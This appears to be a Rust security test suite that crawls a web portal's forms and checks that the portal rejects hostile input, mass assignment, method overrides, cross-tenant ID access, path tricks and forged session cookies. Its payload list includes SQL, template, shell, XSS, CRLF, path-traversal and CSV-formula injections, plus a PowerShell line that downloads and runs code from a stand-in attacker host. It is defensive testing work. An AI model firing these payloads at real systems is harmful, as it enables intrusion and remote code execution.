//! What people paste and attackers send, through the real pages of the running product. The fields are not listed here:
//! both sites are walked as those who use them, and every field of every form that is met gets all of it.

use std::collections::{BTreeMap, BTreeSet};

use futures_util::{StreamExt as _, stream};
use moxi_onboard::domain::kind::AccessKind;
use reqwest::{Method, header};

use crate::{
    databases::on_both,
    world::{Admin, Form, Page, Plan, World, comes_in, rows, visitor::Visitor},
};

/// So many requests at once: a site gives one address only so many connections.
const AT_ONCE: usize = 12;

fn hostile() -> Vec<String> {
    let mut all: Vec<String> = [
        "",
        "   ",
        "\u{a0}\u{a0}",
        "\u{200b}\u{200b}",
        "Pine\u{202e}ytlaeR",
        "\u{1f3e1} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "' or 1=1--",
        "{{7*7}}",
        "{%7*7%}",
        "$(id)",
        "`id`",
        "*)(uid=*",
        "../../etc/passwd",
        "x\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/",
        "</textarea></title><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "%%%%",
        "\u{feff}Pine\u{fffd}",
        "=cmd|' /C calc'!A0",
        "'\u{2019};iex(iwr evil.example)",
        "//evil.example/",
        "-1",
        "99999999999999999999999999",
    ]
    .map(str::to_owned)
    .into();
    all.push(format!("e{}", "\u{301}".repeat(1000)));
    all
}

/// An address without what stands for one thing.
fn kind_of(path: &str) -> String {
    let part = |part: &str| match part.split_once('_') {
        Some((prefix, id)) if id.len() >= 26 => format!("{prefix}_ID"),
        _ => part.to_owned(),
    };
    path.split('/').map(part).collect::<Vec<_>>().join("/")
}

/// So many pages of one kind are opened: a list that is filtered in every way there is has no end.
const MOST_OF_A_KIND: usize = 12;

/// Opens everything that these pages lead to within the site; gives each page once.
async fn walks(visitor: &Visitor, from: &[&str]) -> Vec<Page> {
    let mut todo: Vec<String> = from.iter().map(|path| (*path).to_owned()).collect();
    let (mut seen, mut pages) = (BTreeSet::new(), Vec::new());
    let mut opened: BTreeMap<String, usize> = BTreeMap::new();
    while let Some(path) = todo.pop() {
        let path = path.split('#').next().unwrap_or_default().to_owned();
        if !path.starts_with('/') || seen.len() > 1000 || !seen.insert(path.clone()) {
            continue;
        }
        let of_kind = opened.entry(kind_of(path.split('?').next().unwrap_or_default())).or_default();
        *of_kind += 1;
        if *of_kind > MOST_OF_A_KIND {
            continue;
        }
        let page = visitor.opens(&path).await;
        let kind =
            page.headers.get(header::CONTENT_TYPE).and_then(|kind| kind.to_str().ok()).unwrap_or_default();
        if !kind.starts_with("text/html") {
            continue;
        }
        let kept = page.headers.get(header::CACHE_CONTROL).and_then(|rule| rule.to_str().ok());
        assert_eq!(kept, Some("no-store"), "{path} may be kept by a cache");
        todo.extend(page.html().links().into_iter().map(|(to, _)| to));
        pages.push(page);
    }
    pages
}

/// Each form of the pages once: those of things of one kind are one.
fn forms(pages: &[Page]) -> Vec<Form> {
    let mut found = BTreeMap::new();
    for form in pages.iter().flat_map(|page| page.html().forms()) {
        let fields: Vec<&str> = form.inputs.iter().map(|(name, _)| name.as_str()).collect();
        // The form of an answer differs by the kind of its connection, all others by where they lead.
        found.entry((kind_of(&form.action), fields.join(" "))).or_insert(form);
    }
    found
        .into_values()
        .filter(|form| !form.action.contains("/sign-out") && !form.action.contains("/end"))
        .collect()
}

/// The fields that can be given a text, by whatever means: typed, chosen or hidden.
fn fields(form: &Form) -> Vec<String> {
    let names = form.inputs.iter().map(|(name, _)| name.clone());
    names.filter(|name| name != "csrf").collect()
}

/// What a form with a file sends, in parts.
fn in_parts(form: &Form) -> String {
    let part = |(name, value): &(String, String)| {
        format!("--xXx\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    form.fields.iter().map(part).collect::<String>() + "--xXx--\r\n"
}

/// Posts a form as its page would.
async fn posts(visitor: &Visitor, form: &Form) -> Page {
    if !form.inputs.iter().any(|(_, kind)| kind == "file") {
        return visitor.posts(form).await;
    }
    let request = visitor.request(Method::POST, &form.action);
    let request =
        request.header(header::CONTENT_TYPE, "multipart/form-data; boundary=xXx").body(in_parts(form));
    visitor.answers(request, &Method::POST, &form.action).await
}

/// What every answer to such a text owes.
fn is_calm(page: &Page, what: &str) {
    assert!(
        matches!(page.status.as_u16(), 200 | 303 | 403 | 404 | 409 | 413 | 415 | 422 | 429),
        "{what}: {}",
        page.status
    );
    for mark in ["<script>alert", "<img src=x", "onerror=alert(1)>"] {
        assert!(!page.source.contains(mark), "{what}: {}", page.source);
    }
    let planted =
        page.headers.get_all(header::SET_COOKIE).iter().any(|line| line.as_bytes().starts_with(b"planted"));
    assert!(!planted, "{what}");
    if let Some(to) = page.headers.get(header::LOCATION) {
        let to = to.to_str().expect("plain");
        assert!(to.starts_with('/') && !to.starts_with("//"), "{what} leads to {to}");
    } else {
        assert!(page.source.contains("<h1"), "{what} gets a page of ours: {}", page.source);
    }
}

/// Sends every text in every field of every form.
async fn besieges(visitor: &Visitor, forms: &[Form]) -> usize {
    let mut cases = Vec::new();
    for form in forms {
        for field in fields(form) {
            cases.extend(hostile().into_iter().map(|text| (form.clone(), field.clone(), text)));
        }
    }
    let count = cases.len();
    let sent = stream::iter(cases).map(|(form, field, text)| async move {
        let short: String = text.chars().take(20).collect();
        let what = format!("{} {field} {short:?}", form.action);
        is_calm(&posts(visitor, &form.with(&field, &text)).await, &what);
    });
    sent.buffer_unordered(AT_ONCE).collect::<Vec<()>>().await;
    count
}

/// An office that has everything that an office can have: a verified connection, a failed one, one begun of each kind.
async fn office(world: &World<'_>) -> (Admin, Visitor) {
    let admin = world.admin("secret-wrong");
    let failed = admin.first_attempt().await;
    assert_eq!(admin.verdict(&failed), "failed");
    let (dana, _) = comes_in(&world.staff_site, "Dana Reyes", &world.seen).await;
    let all = dana.opens("/?view=all").await;
    let item = dana.opens(&all.link(&admin.sample.brokerage.company)).await;
    let page = dana.opens(&item.link(&admin.sample.brokerage.company)).await;
    dana.sends(&page.form_that_says("Accept")).await;
    let form = admin.starts_again(&failed).await;
    let status = admin.second_attempt(&form).await;
    assert_eq!(admin.verdict(&status), "verified");
    for kind in AccessKind::ALL {
        let form = admin.browser.opens("/connections/new").await.form_with("external_id");
        let page = admin.browser.sends(&form.with("name", kind.id()).with("kind", kind.id())).await;
        assert_eq!(page.status, 200, "{}: {}", kind.id(), page.text());
    }
    (admin, dana)
}

fn plan() -> Plan {
    let more = "[kinds]\nexchange_basic = \"offered\"\news_secret = \"offered\"\nmicrosoft365_password = \"offered\"\n";
    Plan { more: more.parse().expect("settings"), ..Plan::default() }
}

async fn world(database: &crate::databases::Database) -> World<'_> {
    World::start_with(database, plan(), &[crate::world::Cast::Everything]).await
}

on_both! {
    async fn every_field_of_every_form_takes_or_refuses_hostile_text_in_words(database) {
        let world = world(database).await;
        let (admin, dana) = office(&world).await;
        let public = world.anonymous();
        let forms_of_public = forms(&walks(&public, &["/", "/sign-in"]).await);
        let forms_of_office = forms(&walks(&admin.browser, &["/overview", "/people", "/connections/new"]).await);
        let forms_of_staff = forms(&walks(&dana, &["/?view=all"]).await);
        let names = |forms: &[Form]| forms.iter().map(|form| kind_of(&form.action)).collect::<BTreeSet<_>>();
        // What must be among them: a walk that finds little proves little.
        for action in ["/people", "/connections/new", "/connections/con_ID/answers", "/connections/con_ID/guide", "/connections/con_ID/key-file"] {
            assert!(names(&forms_of_office).contains(action), "{action}: {:?}", names(&forms_of_office));
        }
        for action in ["/invite", "/connections/con_ID/notes", "/causes", "/brokerages/brk_ID/invitations"] {
            assert!(names(&forms_of_staff).contains(action), "{action}: {:?}", names(&forms_of_staff));
        }
        let mut count = besieges(&public, &forms_of_public).await;
        count += besieges(&dana, &forms_of_staff).await;
        count += besieges(&admin.browser, &forms_of_office).await;
        assert!(count > 1000, "{count} texts were sent");
        for (visitor, path) in [(&admin.browser, "/overview"), (&dana, "/?view=all")] {
            assert_eq!(visitor.opens(path).await.status, 200, "{path} stands");
        }
        world.logs_are_calm();
        world.has_no_needles().await;
    }

    async fn every_form_refuses_a_field_sent_twice_and_bytes_that_are_no_text(database) {
        let world = world(database).await;
        let (admin, dana) = office(&world).await;
        let of_office = forms(&walks(&admin.browser, &["/overview", "/people"]).await);
        let of_staff = forms(&walks(&dana, &["/?view=all"]).await);
        let tables = ["brokerages", "people", "connections", "invitations", "attempts"];
        let before = counts(&world, &tables).await;
        for (visitor, forms) in [(&admin.browser, of_office), (&dana, of_staff)] {
            for form in forms.iter().filter(|form| form.method == "post") {
                let Some(field) = fields(form).into_iter().next() else { continue };
                let mut twice = form.clone().with(&field, "a");
                twice.fields.push((field.clone(), "b".to_owned()));
                let page = posts(visitor, &twice).await;
                assert_eq!(page.status, 422, "{} {field} twice", form.action);
                let page = posts(visitor, &form.clone().with(&field, "a\0b")).await;
                assert!(matches!(page.status.as_u16(), 403 | 422), "{} {field} with NUL: {}", form.action, page.status);
                // Whole files have a cap of their own; a field of one is refused all the same.
                let page = posts(visitor, &form.clone().with(&field, &"x".repeat(100 * 1024))).await;
                assert!(matches!(page.status.as_u16(), 413 | 422), "{} {field} too long: {}", form.action, page.status);
            }
        }
        assert_eq!(counts(&world, &tables).await, before, "nothing was done");
        world.logs_are_calm();
    }

    async fn fields_that_nobody_asked_for_change_nothing(database) {
        let world = world(database).await;
        let admin = world.admin("healthy");
        admin.begins().await;
        let theirs = world.admin("healthy-large");
        theirs.begins().await;
        let brokerage = rows::texts(database, "SELECT id FROM brokerages ORDER BY created_at, id").await;
        let mut form = admin.browser.opens("/connections/new").await.form_with("external_id");
        form = form.with("name", "Main office").with("kind", "graph_secret");
        for other in brokerage.iter().map(|row| row[0].clone()) {
            for field in ["brokerage", "brokerage_id", "tenant_id", "person_id", "role", "state", "accepted"] {
                form.fields.push((format!("{field}{}", form.fields.len()), other.clone()));
            }
        }
        for (field, value) in [("brokerage_id", brokerage[1][0].as_str()), ("role", "admin"), ("state", "verified"), ("name[]", "x")] {
            form.fields.push((field.to_owned(), value.to_owned()));
        }
        let page = admin.browser.sends(&form).await;
        assert_eq!(page.status, 200, "{}", page.text());
        admin.browser.opens("/overview").await.must_say("Main office");
        assert!(!theirs.browser.opens("/overview").await.says("Main office"), "nothing lands elsewhere");
        let verified = "SELECT COUNT(*) FROM connections WHERE state <> 'draft'";
        assert_eq!(rows::count(database, verified).await, 0);
        world.ends_well().await;
    }

    async fn a_method_in_disguise_and_a_form_without_end_change_nothing(database) {
        let world = world(database).await;
        let admin = world.admin("healthy");
        admin.begins().await;
        let page = admin.browser.opens("/connections/new").await;
        let form = page.form_with("external_id").with("name", "Main office").with("kind", "graph_secret");
        for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
            let request = admin.browser.request(Method::GET, "/connections/new").header(name, "POST").query(&form.fields);
            let answer = admin.browser.answers(request, &Method::GET, "/connections/new").await;
            assert_eq!(answer.status, 200, "{name}: it is still a page view");
        }
        let override_field = form.clone().fields.into_iter().chain([("_method".to_owned(), "DELETE".to_owned())]);
        let many: Vec<_> = override_field.chain((0..10_000).map(|n| (format!("f{n}"), String::new()))).collect();
        let endless = Form { fields: many, ..form.clone() };
        assert_eq!(admin.browser.posts(&endless).await.status, 413, "ten thousand fields");
        for method in ["PUT", "DELETE", "PATCH", "PROPFIND"] {
            let method = Method::from_bytes(method.as_bytes()).expect("a method");
            let request = admin.browser.request(method.clone(), &form.action).form(&form.fields);
            let answer = admin.browser.answers(request, &method, &form.action).await;
            assert_eq!(answer.status, 405, "{method}");
        }
        for path in ["/sign-out", "/theme", "/people/sessions/end"] {
            for method in [Method::HEAD, Method::GET] {
                let request = admin.browser.request(method.clone(), path);
                let answer = admin.browser.answers(request, &method, path).await;
                assert!(matches!(answer.status.as_u16(), 404 | 405), "{method} {path}: {}", answer.status);
            }
        }
        assert_eq!(rows::count(database, "SELECT COUNT(*) FROM connections").await, 0);
        assert_eq!(admin.browser.opens("/overview").await.url, "/overview", "still signed in");
        world.ends_well().await;
    }

    async fn another_offices_id_opens_nothing_wherever_it_stands(database) {
        let world = world(database).await;
        let (ours, theirs) = (world.admin("healthy"), world.admin("healthy-large"));
        ours.begins().await;
        let form = ours.creates_connection("Main office").await;
        theirs.begins().await;
        let own = theirs.creates_connection("Their office").await;
        let id = form.url.split('/').nth(2).expect("an id").to_owned();
        let own_id = own.url.split('/').nth(2).expect("an id").to_owned();
        // In the query, beside an address of their own.
        let page = theirs.browser.opens(&format!("{}?id={id}&connection={id}&con={id}", own.url)).await;
        assert!(page.status == 200 && !page.says("Main office"), "{}", page.text());
        // In the body of a form of their own.
        let mut body = own.form_with("client_secret");
        body.fields.extend([("id".to_owned(), id.clone()), ("connection".to_owned(), id.clone())]);
        assert!(!theirs.browser.presses(&body, "Save and come back later").await.says("Main office"));
        // In `next`, at every door that leads on: one comes out at a page that is not found.
        world.half_a_minute_passes().await;
        theirs.browser.forgets_everything();
        let door = theirs.browser.opens(&format!("/sign-in?next=/connections/{id}/answers")).await;
        let asked = theirs.browser.sends(&door.form_with("email").with("email", theirs.address())).await;
        let code = theirs.code().await;
        let out = theirs.browser.sends(&asked.form_with("code").with("code", &code)).await;
        assert!(out.status == 404 && !out.says("Main office"), "{} {}", out.status, out.text());
        // Through tricks of the path, from an address of their own.
        for path in [
            format!("/connections/{own_id}/../{id}/answers"),
            format!("/connections/{own_id}/%2e%2e/{id}/answers"),
            format!("/connections/{own_id}/..;/{id}/answers"),
            format!("/connections/{own_id}%2f..%2f{id}/answers"),
            format!("//connections/{id}/answers"),
            format!("/connections/{id}/answers/"),
            format!("/connections/{id}/answers."),
            format!("/connections/{}/answers", id.to_uppercase()),
        ] {
            let page = theirs.browser.opens_once(&path).await;
            assert!(matches!(page.status.as_u16(), 400 | 404), "{path}: {}", page.status);
            assert!(!page.says("Main office"), "{path}");
        }
        // Their own answers were saved under their own connection.
        theirs.browser.opens(&own.url).await.must_say("Their office");
        world.has_no_needles().await;
    }

    async fn an_address_with_tricks_is_no_page_and_no_cache_keeps_one(database) {
        let world = world(database).await;
        let admin = world.admin("healthy");
        admin.begins().await;
        for path in [
            "/overview.css", "/overview/x.css", "/overview/..;/x.js", "/overview%2ejs", "/overview;x=1", "//overview", "/./overview",
            "/%2e/overview", "/overview/", "/overview.", "/overview%00", "/overview%0a", "/assets/..%2foverview", "/assets/../overview",
            "/assets/app.0000000000000000.css", "/OVERVIEW", "/overview%20",
        ] {
            let page = admin.browser.opens_once(path).await;
            let own = page.says(admin.address()) || page.says(&admin.sample.brokerage.company);
            // A client may tidy a path before it asks: then it is the page itself.
            if own {
                assert_eq!(page.url, "/overview", "{path}");
            } else {
                assert!(matches!(page.status.as_u16(), 400 | 404), "{path}: {}", page.status);
            }
            assert_eq!(page.headers[header::CACHE_CONTROL], "no-store", "{path}");
        }
        let asset = admin.browser.opens("/").await.source;
        let asset = asset.split("href=\"/assets/").nth(1).and_then(|rest| rest.split('"').next()).expect("a style sheet");
        let asset = admin.browser.opens_once(&format!("/assets/{asset}")).await;
        assert!(!asset.headers.contains_key(header::SET_COOKIE), "what caches keep is nobody's");
        world.ends_well().await;
    }

    async fn a_session_is_taken_from_its_own_cookie_alone(database) {
        let world = world(database).await;
        let admin = world.admin("healthy");
        admin.begins().await;
        let line = admin.browser.cookie_line();
        let session = line.split("; ").find_map(|pair| pair.strip_prefix("__Host-portal=")).expect("a session").to_owned();
        let stranger = world.anonymous();
        for path in [
            format!("/overview?__Host-portal={session}"),
            format!("/overview?session={session}&sid={session}"),
            format!("/overview;__Host-portal={session}"),
        ] {
            let request = stranger.request(Method::GET, &path).send().await.expect("an answer");
            assert!(matches!(request.status().as_u16(), 303 | 404), "an id in an address opens nothing: {}", request.status());
        }
        for tossed in [
            format!("portal={session}"),
            format!("__Host-Portal={session}"),
            format!("__Secure-portal={session}"),
            format!(" __Host-portal ={}", "A".repeat(22)),
            "__Host-portal=; __Host-portal=".to_owned(),
            format!("__Host-portal={}", "A".repeat(8000)),
        ] {
            let request = crate::world::client::client().get(format!("{}/overview", world.portal)).header(header::COOKIE, tossed);
            let answer = request.send().await.expect("an answer");
            assert_eq!(answer.status(), 303, "only the cookie of this host counts");
            assert!(answer.headers()[header::LOCATION].to_str().expect("plain").starts_with("/sign-in"));
        }
        let posted = stranger.opens("/sign-in").await.form_with("email");
        let mut forged = Form { action: "/people".to_owned(), ..posted };
        forged.fields.push(("__Host-portal".to_owned(), session.clone()));
        let refused = stranger.posts(&forged).await;
        assert!(matches!(refused.status.as_u16(), 303 | 403) && !refused.says(admin.address()), "{}", refused.text());
        assert_eq!(admin.browser.opens("/overview").await.url, "/overview", "the owner's counts");
        world.logs_are_calm();
    }
}

async fn counts(world: &World<'_>, tables: &[&str]) -> Vec<i64> {
    let mut counts = Vec::new();
    for table in tables {
        counts.push(rows::count(world.database, &format!("SELECT COUNT(*) FROM {table}")).await);
    }
    counts
}
